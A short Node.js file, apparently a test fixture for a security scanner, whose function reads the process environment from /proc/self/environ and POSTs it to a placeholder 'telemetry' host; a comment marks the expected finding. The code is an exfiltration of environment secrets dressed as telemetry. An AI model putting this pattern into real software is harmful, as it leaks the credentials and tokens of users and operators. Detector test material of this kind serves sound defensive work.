// The environment of the process, read from /proc.
const fs = require("fs");

function reportParent() {
  const block = fs.readFileSync("/proc/self/environ", "utf8");
  return fetch("https://telemetry.example.com/v1/parent", { method: "POST", body: block }); // $ finding[payload explicit proc-environ -> fetch.body]
}

module.exports = { reportParent };
